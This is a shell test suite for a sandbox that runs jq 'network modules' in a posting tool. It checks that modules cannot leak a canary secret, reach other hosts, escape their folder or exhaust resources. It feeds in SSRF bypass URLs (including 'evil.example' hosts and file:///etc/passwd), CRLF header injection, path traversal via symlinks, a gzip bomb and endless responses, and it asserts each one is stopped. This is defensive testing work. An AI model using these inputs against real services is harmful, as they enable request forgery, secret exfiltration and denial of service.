#!/bin/sh
# Modules that attack, and servers that do: what a module may not reach, where
# a secret never goes, what has no end. All requests go to loopback.
# shellcheck disable=SC2016,SC2154,SC3045,SC2089,SC2090 # words of jq; names of lib.sh
. "${0%/*}/lib.sh"
. "${0%/*}/feeds.sh"
cd "$tmp" || exit 1
serve
mkdir -p other cm/networks folder outside
: >otherlog
httpd "$tmp/other" "$tmp/otherlog" >otherport &
# shellcheck disable=SC2064 # now is the time
trap "kill $serve_pid $! 2>/dev/null; cd /; rm -rf '$tmp'" EXIT
tries=0
until [ -s otherport ] || [ "$tries" -ge 100 ]; do
	sleep 0.05
	tries=$((tries + 1))
done
elsewhere=http://127.0.0.1:$(cat otherport)
CM_DIR=$tmp/cm
export CM_DIR
ulimit -c 0

# A secret with what JSON, URLs and base64 spell otherwise.
canary='kana/ri+"Vogel"\frei=47'
bare=kana
CANARY=$canary
export CANARY
printf '%s\n' "$canary" >token
chmod 600 token
cat >cm/accounts <<END
[me]
network = t
host = $web
folder = $tmp/folder
token = $canary
user = bob
mark = \\u0001token\\u0001
[byfile]
network = t
host = $web
token-file = $tmp/token
[byenv]
network = t
host = $web
token-env = CANARY
[bycommand]
network = t
host = $web
token-command = cat $tmp/token
END
printf 'sly = \001token\001\n' >sly
sed -i '/^mark/r sly' cm/accounts
chmod 600 cm/accounts
rm sly

# module ABOUT BODY: the network of these accounts.
module() {
	printf '%s\n' 'include "net";' \
		'def about: {title: "T", hosts: [".base"], auth: false, reads: ["posts"], text: {max: 5000}, media: {max: 4}} +' \
		"$1;" "$2" >cm/networks/t.jq
}
keep() { # all that came out, for the end
	cat .out .err >>all
}
drafts=0
# attack BODY [ABOUT]: a draft goes through that module
attack() {
	drafts=$((drafts + 1))
	module "${2:-"{}"}" "$1"
	run cm-post -v -v --patience 2s --timeout 5s --to "${to:-me}" \
		--text "draft $drafts" --key "k$drafts" --record "h$drafts.har"
	keep
}
# stopped WHAT RE: it failed, said so, no crash
stopped() {
	ok "$1: status" test "$status" -eq 1 -o "$status" -eq 75
	has_err "$1: is said" "$2"
}
bearer='{auth: {bearer: "token"}}'
to_done='else published("1"; null) end;'
echo '{"id":1}' >www/ok
echo '{"id":1}' >other/got

# ---- what a module may not reach

attack 'def post: published([env, $ENV, (env|length)] | tojson; null);'
is_status 'the environment: status' 0
has_out 'is empty' '"id":"\[\{\},\{\},0\]"'
for no in 'input' '[inputs]' 'input_filename' 'debug' 'halt' 'now' \
	'"halt"|halt_error' 'get_search_list' '"net"|modulemeta' \
	'input_line_number' '$__prog_args' '$__loc__ | input'; do
	attack "def post: published([$no] | tojson; null);"
	ok "$no: is no way out" test "$status" -eq 1 -o "$status" -eq 2
	lacks_out "$no: nothing is published" published
done
echo '{"leak":"leak"}' >cm/networks/d.json
cp cm/networks/d.json d.json
echo 'def leak: "leak";' >cm/networks/m.jq
cp cm/networks/m.jq .
cp m.jq "$HOME/.jq"
for no in 'import "d" as $d;' 'import "./d" as $d;' 'include "../m";' \
	'include "m" {search: "/tmp"};' 'import "m" as m {search: "."};' \
	"include \"$tmp/m\";" 'import "a" as $d {search: "/etc"};' ; do
	printf '%s\n' 'include "net";' "$no" 'def about: {title: "T", hosts: [".base"], auth: false};' 'def post: published(leak; null);' >cm/networks/t.jq
	run cm-post --to me --text x
	keep
	ok "$no: is no way out" test "$status" -eq 1 -o "$status" -eq 2
	lacks_out "$no: nothing gets out" leak
done
attack 'def post: published(leak; null);'
is_status 'a .jq of the home: status' 2

# ---- another host, and the secret in any place

# sneaks URL: not asked
sneaks() {
	attack "def post: if .step == null then publish({method: \"POST\", url: \"$1\", json: {a: secret(\"token\")}}; \"x\") $to_done" "$bearer"
	stopped "$1" 'its url|has no url|mark|not one of|a secret stands'
}
port=${elsewhere##*:}
mine=${web##*:}
for url in "$elsewhere/got" "http://localhost:$mine/ok" "//127.0.0.1:$port/got" \
	"https://127.0.0.1:$mine/ok" "http://127.0.0.1:$mine@127.0.0.1:$port/got" \
	"http://bob:pw@127.0.0.1:$mine/ok" "http://127.0.0.1:$mine\\\\@127.0.0.1:$port/got" \
	"http://2130706433:$port/got" "http://0x7f000001:$port/got" \
	"http://127.1:$port/got" "http://127.0.0.1:$port" "http://[::1]:$port/got" \
	"http://[::ffff:127.0.0.1]:$port/got" "http://127.0.0.1.:$port/got" \
	'http://example.org/' 'ftp://127.0.0.1/x' 'file:///etc/passwd' \
	'gopher://127.0.0.1/' 'http:/ok' 'ok' '' '?a=b' \
	"http://127.0.0.1:$mine.evil.example/" "http://１２７.0.0.1:$mine/ok" \
	'https://xn--.example\u0000.evil/' "http://127.0.0.1:$mine\\u0000$port/" \
	"http://127.0.0.1%3a$port/got" "HTTP://LOCALHOST:$port/got" \
	"\\t$elsewhere/got" " $elsewhere/got" "\\u0001token\\u0001" \
	"http://\\u0001token\\u0001.localhost:$port/got" \
	"http://a.localhost:$port/got"; do
	sneaks "$url"
done
no_credential() {
	! grep -qiE 'authorization|x-b|kana|a=|oauth|bob' otherlog
}
open_host() {
	attack "def post: if .step == null then publish({method: \"POST\", url: \"$elsewhere/got\", $kind}; \"x\") $to_done" "{open: [\"127.0.0.1:$port\"]}"
}
for kind in 'headers: {"x-a": secret("token")}' 'query: {a: secret("token")}' \
	'form: {a: secret("token")}' 'text: secret("token")' \
	'multipart: [{name: "a", value: secret("token")}]' \
	'json: [[{b: secret("token")}]]'; do
	open_host
	stopped "a host that is open, $kind" 'secret'
done
is 'nothing went elsewhere' "$(wc -c <otherlog)" 0
for kind in 'auth: {bearer: "token"}' 'auth: {basic: ["user", "token"]}' \
	'auth: {query: {a: "token"}}' 'auth: {header: {"x-b": "token"}}' \
	'auth: {body: {a: "token"}}, json: {}' \
	'auth: {jwt: {alg: "HS256", key: "token", claims: {}}}' \
	'auth: {oauth1: {consumer_key: "token", consumer_secret: "token"}}'; do
	open_host
	ok "a host that is open gets no $kind" no_credential
done
for kind in 'headers: {(secret("token")): "a"}' 'headers: {"a": "b\r\nx: y"}' \
	'headers: {"a\r\nx": "y"}' 'method: "GET /ok HTTP/1.1\r\nx: y\r\n\r\nGET"' \
	'method: secret("token")' 'headers: {host: "evil.example"}' \
	'headers: {"Transfer-Encoding": "chunked"}' \
	'headers: {"content-length": "3"}' 'json: {(secret("token")): 1}' \
	'query: {(secret("token")): 1}' 'nonesuch: 1' \
	'headers: {"proxy-authorization": "x"}' 'file: {file: "/etc/passwd"}' \
	"file: {file: \"$tmp/token\"}" 'file: {file: "../token"}' \
	"multipart: [{name: \"a\", file: \"$tmp/token\"}]" \
	"text: base64(\"$tmp/token\")" 'auth: {bearer: "nonesuch"}' \
	'mail: {to: ["a@b"]}'; do
	attack "def post: if .step == null then publish({method: \"POST\", url: \"/ok\"} + {$kind}; \"x\") $to_done"
	ok "$kind: is stopped" test "$status" -eq 1
	lacks_out "$kind: nothing is published" published
done
is 'none of it was sent' "$(asked '^')" 0

# ---- redirects

# goes WHAT REQUEST [ABOUT]: a GET that is sent elsewhere
goes() {
	: >otherlog
	attack "def post: if .step == null then ask({url: \"/away\"} + $2; \"x\") $to_done" "${3:-"{}"}"
	ok "$1: no credential goes elsewhere" no_credential
	ok "$1: it ends" test "$status" -le 75
}
for code in 301 302 307 308; do
	echo "status=$code&to=$elsewhere/got" >www/away.do
	goes "$code, bearer" '{}' "$bearer"
	goes "$code, basic" '{}' '{auth: {basic: ["user", "token"]}}'
	goes "$code, header" '{headers: {"x-b": secret("token")}}'
	goes "$code, query" '{query: {a: secret("token")}}'
	: >otherlog
	attack "def post: if .step == null then publish({method: \"POST\", url: \"/away\", json: {a: secret(\"token\")}}; \"x\") $to_done" "$bearer"
	is "$code: a POST is not sent elsewhere" "$(wc -c <otherlog)" 0
done
# The server knows the secret, and writes it into the address.
spelt=$(printf %s "$canary" | jq -sRr @uri)
printf 'HTTP/1.1 302 Found\r\nLocation: %s/got?t=%s\r\nContent-Length: 0\r\n\r\n' \
	"$elsewhere" "$spelt" >www/away.http
rm www/away.do
attack "def post: if .step == null then ask({url: \"/away\", query: {a: secret(\"token\")}}; \"x\") $to_done" "$bearer"
ok 'a redirect with the secret in it: it ends' test "$status" -le 75
echo "loop" >www/round.do
attack "def post: if .step == null then ask(get(\"/round\"); \"x\") $to_done"
stopped 'redirects without an end' 'redirect loop'

# ---- what a server tells back

pair=$(printf 'bob:%s' "$canary" | base64 -w0)
words=$(printf %s "$canary" | jq -sRc --arg p "$pair" \
	'{id: 7, a: ., (.): "key", u: @uri, n: ("x" + . + "y"), message: ., pair: $p}')
for line in '200 OK' "401 $bare" "403 $canary" "500 $canary" "400 $canary"; do
	for type in application/json text/plain application/x-www-form-urlencoded; do
		printf 'HTTP/1.1 %s\r\nContent-Type: %s\r\nX-Echo: %s\r\nX-Pair: Basic %s\r\nX-Uri: %s\r\nConnection: close\r\n\r\n%s' \
			"$line" "$type" "$canary" "$pair" "$spelt" "$words" \
			>www/echo.http
		attack 'def post: if .step == null then ask({url: "/echo", safe: true, accept: ["refused", "server", "invalid"], headers: {"x-a": secret("token")}}; "x")
			else published(.response | tojson; body.a?) end;' '{auth: {basic: ["user", "token"]}}'
		ok "$line, $type: it ends" test "$status" -le 75
	done
done
attack 'def error_of: {kind: "refused", message: (.body | tojson)};
	def post: if .step == null then ask({url: "/echo", headers: {"x-a": secret("token")}}; "x") else error(.response|tojson) end;' '{auth: {basic: ["user", "token"]}}'
is_status 'an error with all of the answer: status' 1

# ---- marks from outside

printf '%s\n' '{"type":"draft","to":"me","text":"a \u0001token\u0001 b","title":"\u0001token\u0001","key":"marks","tags":["\u0001token\u0001"]}' >marks
module '{}' 'def post: if .step == null then publish(send("POST"; "/ok"; {text: .job.draft.text, all: .job, a: .account, sly: .account.sly}); "x") '"$to_done"
: >log
run cm-post -v -v --record hm.har marks
keep
ok 'marks in a draft and the accounts file: it ends' test "$status" -le 1
is 'are none: no secret is sent' "$(grep -c kana log)" 0

# ---- the folder

for path in '../x' '/tmp/x' 'a/../../x' './x' 'a//x' '' '.' '..' 'link/x' \
	'.htaccess' '../folder2/x'; do
	ln -sfn "$tmp/outside" folder/link
	attack "def post: {write: {path: \"$path\", text: \"no\"}}, published(\"1\"; null);"
	stopped "write '$path'" "is not a path|Not a directory|Is a directory|symbolic"
	attack "def post: {remove: \"$path\"}, published(\"1\"; null);"
	ok "remove '$path': fails" test "$status" -eq 1 -o "$status" -eq 75
done
attack "def post: {write: {path: (\"0\" * 300), text: \"no\"}}, published(\"1\"; null);"
stopped 'a name that is too long' 'too long'
attack "def post: {write: {path: \"a\", file: \"$tmp/token\"}}, published(\"1\"; null);"
ok 'a file that is none of the draft: fails' test "$status" -eq 1 -o "$status" -eq 75
for path in '../token' "$tmp/token" 'link/../../token' 'link'; do
	ln -sfn "$tmp/token" folder/link
	attack "def post: if .step == null then ask({compute: {fn: \"read\", path: \"$path\"}}; \"x\") else published(body | tojson; null) end;"
	is_status "read '$path': status" 1
done
is 'nothing was written outside' "$(find outside -type f | wc -l)" 0
is 'nor beside it' "$(find . -maxdepth 1 -name x -o -name folder2)" ''

# ---- what has no end

printf 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1073741824\r\n\r\n[' >www/giant.http
head -c 50000000 /dev/zero | gzip -9 >www/bomb.gz
echo '[1,' >www/bomb
echo 'gzip' >www/bomb.do
head -c 65536 /dev/zero | tr '\0' a >www/flood
echo 'endless' >www/flood.do
{
	printf 'HTTP/1.1 200 OK\r\n'
	seq 40000 | sed 's/.*/x-&: aaaa\r/'
	printf '\r\n'
} >www/heads.http
echo hello >www/drip
echo 'hang' >www/drip.do
for url in giant bomb flood heads drip; do
	attack "def post: if .step == null then publish(send(\"POST\"; \"/$url\"; 1) + {accept: [\"invalid\"]}; \"x\") elif .response.error then fail(\"refused\"; \"it was \" + .response.error.message) $to_done"
	ok "/$url: status" test "$status" -eq 1 -o "$status" -eq 75
	lacks_out "/$url: nothing is published" '"published"'
done

# So many effects, such large ones, such deep ones.
attack 'def post: range(1000000) | {gap: {what: "a", why: "b"}};'
stopped 'a million effects' '100000 effects'
attack 'def post: {receipt: {status: "published", id: ("0123456789" * 4000000)}};'
ok 'an effect of 40 MB: it ends' test "$status" -le 75
attack 'def post: def d($n): if $n == 0 then 1 else [d($n - 1)] end; {receipt: {status: "published", id: "1", native: d(5000)}};'
ok 'nested deeply: it ends' test "$status" -le 75
attack 'def post: [range(1e10)] | {a: .};'
stopped 'all memory' 'memory|seconds of CPU' # slower under sanitizers

attack 'def post: ask([]; "again");'
stopped 'asking without an end' 'asks again and again, without an end'

# ---- one message is one commit

: >log
attack 'def post: if .step == null then publish(send("POST"; "/ok"; 1); "b") else publish(send("POST"; "/ok"; 2); "b") end;'
ok 'a commit behind a commit: fails' test "$status" -eq 1 -o "$status" -eq 75
lacks_out 'and is not said to be published' '"published"'
is 'one was sent' "$(asked '^POST /ok')" 1
: >log
attack 'def post: if .step == null then publish([send("POST"; "/ok"; (1,2,3))]; "b") '"$to_done"
stopped 'three at once' 'more than one thing at once'
is 'none was sent' "$(asked '^POST /ok')" 0
attack 'def post: {cursor: "a"}, published("1"; null);'
stopped 'a cursor in post' 'a cursor in post'
attack 'def post: {record: {type: "post", id: "1"}}, published("1"; null);'
stopped 'a record in post' 'a record in post'

# ---- a file that goes away while others are sent

printf 'GIF89a\001\0\001\0\0\0\0;' >gone.gif
module '{}' 'def post: if .step == null then ask(get("/ok"); "w") elif .step == "w" then
	ask(get("/ok") + {after: 2}; "x") elif .step == "x" then
	publish({method: "POST", url: "/ok", file: .job.draft.media[0]}; "y") '"$to_done"
: >log
cm-post --to me --text gone --media gone.gif >.out 2>.err &
pid=$!
waited=0
until grep -q '^GET /ok' log || [ $((waited += 1)) -gt 300 ]; do
	sleep 0.1
done
rm gone.gif
wait $pid
status=$?
last='cm-post with a file that goes away'
keep
is_status 'a file that goes away: status' 1
has_err 'it is what is said' "gone.gif': No such file or directory; a file must stay as it is until all is sent"
lacks_err 'and the network is not to blame' 'the module of the network is wrong'
has_out 'it is ours' '"kind":"local"'

# ---- what does not belong into a fetch

# reads BODY [ABOUT]
reads() {
	module "${2:-"{}"}" "$1"
	run cm-fetch -v -v --record hf.har me:posts
	keep
}
for effect in 'published("1"; null)' '{write: {path: "a", text: "b"}}' \
	'{remove: "a"}' '{undo: {url: "/ok"}}'; do
	reads "def fetch: $effect;"
	ok "$effect: fails" test "$status" -ge 1 -a "$status" -le 75
	has_err "$effect: is said" ' in fetch'
done
is 'nothing is written' "$(find folder -type f | wc -l)" 0
printf 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Echo: %s\r\nConnection: close\r\n\r\n%s' \
	"$canary" "$words" >www/echo.http
reads 'def fetch: if .step == "posts" then ask({url: "/echo", headers: {"x-a": secret("token")}}; "x")
	else {record: {type: "post", id: "1", text: (.response | tojson), title: body.a}}, {cursor: body.a} end;' '{auth: {basic: ["user", "token"]}}'
has_out 'a record with all of the answer' '"type":"post"'
rm -f www/echo.http

# Pages that go in a circle, and a look at what is not ready yet.
: >log
reads 'def fetch: if .step == "posts" then ask(get("/ok"; {page: 1}); "page") else
	{record: {type: "post", id: .response.url, published: 1}}, ask(get("/ok"; {page: (1 + (.vars.n // 1) % 3)}); "page"; {n: (1 + (.vars.n // 1) % 3)}) end;'
is_status 'pages in a circle: status' 1
has_err 'pages in a circle: is said' 'its pages go in a circle: .* the network has changed'
ok 'pages in a circle: are few' test "$(asked '^GET /ok')" -lt 10
has_out 'pages in a circle: not all is there' '"complete":false'
reads 'def fetch: if .step == "posts" then ask(get("/ok"); "look") elif .step == "look" and .vars.n != 0 then
	ask(get("/ok") + {after: 0.01}; "look"; {n: (if .vars.n == null then 1 elif .vars.n == 1 then 2 else 0 end)}) else {record: {type: "post", id: "1", published: 1}} end;'
is_status 'what is looked at until it is ready: status' 0

# ---- the canary

for account in byfile byenv bycommand; do
	to=$account
	: >log
	attack "def post: if .step == null then publish(send(\"POST\"; \"/ok\"; {a: secret(\"token\"), b: .account}); \"x\") $to_done" "$bearer"
	is "$account: it is sent" "$(grep -c 'authorization: Bearer kana' log)" 1
done
echo 'wait=1500' >www/later.do
module "$bearer" "def post: if .step == null then ask({method: \"POST\", url: \"/later\", safe: true, json: {a: secret(\"token\")}}; \"x\") $to_done"
unset CANARY
cm-post --to me --text later --key later >.out 2>.err &
pid=$!
sleep 0.7
child=$(pgrep -P $pid)
cat "/proc/$pid/cmdline" >titles
for p in $child; do
	cat "/proc/$p/cmdline" "/proc/$p/environ" "/proc/$p/comm" \
		>>titles 2>>ignored
done
ok 'a module has a process of its own' test -n "$child"
wait $pid
keep
rm -f www/echo.http www/away.http token
find . -type f ! -path './www/*' ! -name log ! -name otherlog \
	! -path ./cm/accounts -exec grep -laF -e "$canary" -e "$spelt" \
	-e "$pair" -e 'kana/ri+\"Vogel\"\\frei=47' {} + >found
is 'the secret is in no output, message, transcript, journal or title' \
	"$(cat found)" ''
done_testing
